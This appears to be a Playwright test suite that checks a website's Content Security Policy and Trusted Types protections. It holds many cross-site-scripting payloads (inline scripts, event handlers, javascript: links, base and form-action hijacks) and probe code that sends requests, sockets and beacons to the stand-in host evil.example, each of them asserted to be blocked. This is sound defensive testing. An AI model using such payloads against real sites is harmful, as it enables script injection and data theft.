import { expect, test, type Page } from '@playwright/test';

import { noteViolations } from '../violations.ts';

/** A host that nobody has; a request for it shows that something got out. */
const EVIL = 'https://evil.example';
const PAGE = '/gioi-thieu/';

/** Opens a page of the site into which somebody got HTML, with the headers and the policy that it always has. */
async function openWith(page: Page, html: string, inHead = ''): Promise<{ violations: string[]; out: string[] }> {
  const violations = await noteViolations(page);
  const out: string[] = [];
  // Only what passes the policy comes as far as this; `request` events tell of what was stopped too.
  await page.route(`${EVIL}/**`, (route) => {
    out.push(route.request().url());
    return route.fulfill({
      status: 200,
      body: 'hacked = "from outside"',
      contentType: 'text/javascript',
      headers: { 'access-control-allow-origin': '*' },
    });
  });
  await page.route(`**${PAGE}`, async (route) => {
    const response = await route.fetch();
    const body = (await response.text()).replace('<title>', `${inHead}<title>`).replace(/(<main[^>]*>)/, `$1${html}`);
    await route.fulfill({ response, body });
  });
  await page.goto(PAGE, { waitUntil: 'load' });
  return { violations, out };
}

const hacked = (page: Page): Promise<unknown> => page.evaluate(() => (window as { hacked?: unknown }).hacked);

/** What is put in, and the directive that stops it; none where the browser stops it by other means. */
const INJECTED: Record<string, { html: string; directive?: string }> = {
  'an inline script': { html: '<script>hacked = 1</script>', directive: 'script-src-elem' },
  'an inline module': { html: '<script type="module">hacked = 1</script>', directive: 'script-src-elem' },
  'a script of another host': { html: `<script src="${EVIL}/x.js"></script>`, directive: 'script-src-elem' },
  'a script in its own address': { html: '<script src="data:text/javascript,hacked=1"></script>', directive: 'script-src-elem' },
  'an import map': {
    html: '<script type="importmap">{"imports":{"/_astro/":"https://evil.example/"}}</script>',
    directive: 'script-src-elem',
  },
  'an inline handler': { html: '<img src="/nothing.png" onerror="hacked = 1">', directive: 'script-src-attr' },
  'a handler of a drawing': { html: '<svg onload="hacked = 1"></svg>', directive: 'script-src-attr' },
  'a script in a drawing': { html: '<svg><script>hacked = 1</script></svg>', directive: 'script-src-elem' },
  'a style element': { html: '<style>main { display: none }</style>', directive: 'style-src-elem' },
  'a style attribute': { html: '<p style="position: fixed">x</p>', directive: 'style-src-attr' },
  'a style sheet of another host': { html: `<link rel="stylesheet" href="${EVIL}/x.css">`, directive: 'style-src-elem' },
  'a picture of another host': { html: `<img src="${EVIL}/x.png">`, directive: 'img-src' },
  'a picture in its own address': { html: '<img src="data:image/svg+xml,<svg/>">', directive: 'img-src' },
  'a film of another host': { html: `<video src="${EVIL}/x.mp4"></video>`, directive: 'media-src' },
  'a frame': { html: `<iframe src="${EVIL}/"></iframe>`, directive: 'frame-src' },
  'a frame of this site': { html: '<iframe src="/"></iframe>', directive: 'frame-src' },
  'a frame with its page in it': { html: '<iframe srcdoc="<script>parent.hacked = 1</script>"></iframe>' },
  'an object': { html: `<object data="${EVIL}/x.pdf"></object>`, directive: 'object-src' },
  'an embedded file': { html: '<embed src="/favicon.svg">', directive: 'object-src' },
  'a prefetch': { html: `<link rel="prefetch" href="${EVIL}/x">`, directive: 'default-src' },
  'a preloaded script': { html: `<link rel="modulepreload" href="${EVIL}/x.js">`, directive: 'script-src-elem' },
};

for (const [what, { html, directive }] of Object.entries(INJECTED)) {
  test(`${what} does nothing`, async ({ page }) => {
    const { violations, out } = await openWith(page, html);
    if (directive) await expect.poll(() => violations.map((violation) => violation.split(' ')[0])).toContain(directive);
    expect(await hacked(page)).toBeUndefined();
    expect(out).toEqual([]);
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
  });
}

test('a base element changes no address', async ({ page, baseURL }) => {
  const { violations, out } = await openWith(page, '', `<base href="${EVIL}/">`);
  await expect.poll(() => violations.join()).toContain('base-uri');
  expect(await page.evaluate(() => document.baseURI)).toBe(`${baseURL}${PAGE}`);
  expect(out).toEqual([]);
});

test('a form for another host is not sent, nor is one of the site turned there', async ({ page }) => {
  const { violations, out } = await openWith(
    page,
    `<form action="${EVIL}/" method="post"><input name="x" value="1"><button id="steal">Gửi</button></form><form ` +
      `action="/tim-kiem/" id="own"></form><button id="turn" form="own" formaction="${EVIL}/">Gửi</button>`,
  );
  // Pressed by the page: after its own press Playwright waits for the page that never comes.
  await page.evaluate(() => setTimeout(() => document.querySelectorAll<HTMLElement>('#steal, #turn').forEach((button) => button.click())));
  await expect.poll(() => violations.filter((violation) => violation.startsWith('form-action')).length).toBeGreaterThanOrEqual(2);
  expect(out).toEqual([]);
});

test('a link that is a script runs nothing', async ({ page, baseURL }) => {
  const { violations } = await openWith(
    page,
    '<a id="link" href="javascript:hacked=1">x</a><a id="tab" href="javascript:opener.hacked=1" target="_blank">x</a><map ' +
      'name="m"><area shape="default" href="javascript:hacked=1"></map>',
  );
  for (const id of ['link', 'tab']) await page.locator(`#${id}`).click();
  await expect.poll(() => violations.join()).toContain('script-src-elem');
  expect(await hacked(page)).toBeUndefined();
  expect(page.url()).toBe(`${baseURL}${PAGE}`);
});

/** What a script of the site itself could be led to do: each must throw, or come to nothing. */
const PROBE = `
const evil = '${EVIL}';
const element = document.createElement('div');
const ways = {
  'innerHTML': () => { element.innerHTML = '<img src=x onerror=hacked=1>'; },
  'outerHTML': () => { document.body.append(element); element.outerHTML = '<b>x</b>'; },
  'insertAdjacentHTML': () => element.insertAdjacentHTML('beforeend', '<b>x</b>'),
  'document.write': () => document.write('<b>x</b>'),
  'DOMParser': () => new DOMParser().parseFromString('<b>x</b>', 'text/html'),
  'createContextualFragment': () => new Range().createContextualFragment('<b>x</b>'),
  'setHTMLUnsafe': () => element.setHTMLUnsafe('<b>x</b>'),
  'srcdoc': () => { document.createElement('iframe').srcdoc = '<b>x</b>'; },
  'eval': () => eval('hacked = 1'),
  'Function': () => new Function('hacked = 1')(),
  'script.text': () => { const script = document.createElement('script'); script.text = 'hacked = 1'; document.body.append(script); },
  'script.src': () => { document.createElement('script').src = '/_astro/x.js'; },
  'handler attribute': () => element.setAttribute('onclick', 'hacked = 1'),
  'worker of another address': () => new Worker('/tim-kiem/'),
  'worker in its own address': () => new Worker('data:text/javascript,1'),
  'worker of an attachment': () => new Worker('/chuyen-de/doc-sach-trong-chi-bo/tep/de-dan.txt'),
  'worker of another host': () => new Worker(evil + '/_astro/worker-x.js'),
  'a policy': () => trustedTypes.createPolicy('other', { createHTML: (text) => text }),
  'fetch': () => fetch(evil + '/x'),
  'import': () => import(evil + '/x.js'),
  'import of data': () => import('data:text/javascript,export default 1'),
  'socket': () => new Promise((resolve, reject) => { const socket = new WebSocket('wss://evil.example/'); socket.onopen = resolve; socket.onerror = reject; }),
  'font': () => new FontFace('x', 'url(' + evil + '/x.woff2)').load(),
};
const done = [];
for (const [name, way] of Object.entries(ways)) {
  try { await way(); done.push(name); } catch {}
}
try { setTimeout('hacked = 1'); } catch {}
navigator.sendBeacon(evil + '/b', 'x');
new Image().src = evil + '/i.png';
document.documentElement.dataset.done = JSON.stringify(done);
`;

test("the site's own scripts cannot be led to make HTML, scripts or requests of text", async ({ page }) => {
  await page.route('**/_astro/probe.js', (route) => route.fulfill({ contentType: 'text/javascript', body: PROBE }));
  const { out } = await openWith(page, '<script type="module" src="/_astro/probe.js"></script>');
  await expect(page.locator('html')).toHaveAttribute('data-done', /./);
  expect(JSON.parse((await page.locator('html').getAttribute('data-done')) ?? '')).toEqual([]);
  expect(await hacked(page)).toBeUndefined();
  expect(out).toEqual([]);
});

test('there is one Trusted Types policy, and only the search makes it', async ({ page }) => {
  await page.goto('/tim-kiem/?q=đọc sách');
  await expect(page.locator('[data-part=results] > li').first()).toBeVisible();
  const answers = await page.evaluate(() => {
    interface Policy {
      createScriptURL(address: string): unknown;
      createHTML(text: string): unknown;
    }
    const { trustedTypes } = window as unknown as {
      trustedTypes: { defaultPolicy: Policy | null; createPolicy(name: string, rules: object): Policy };
    };
    const refuses = (act: () => unknown): boolean => {
      try {
        return !act();
      } catch {
        return true;
      }
    };
    const policy = trustedTypes.defaultPolicy;
    return {
      made: policy !== null,
      html: refuses(() => policy?.createHTML('<b>x</b>')),
      second: refuses(() => trustedTypes.createPolicy('default', {})),
    };
  });
  expect(answers).toEqual({ made: true, html: true, second: true });
});

test('no other site can show a page in a frame', async ({ page, baseURL }) => {
  await page.route('http://other.example/', (route) =>
    route.fulfill({ contentType: 'text/html', body: `<iframe src="${baseURL}/"></iframe><iframe src="${baseURL}/chuyen-de/"></iframe>` }),
  );
  await page.goto('http://other.example/');
  await expect.poll(() => page.frames().length).toBe(3);
  for (const frame of page.frames().slice(1)) await expect(frame.locator('h1, main')).toHaveCount(0);
});
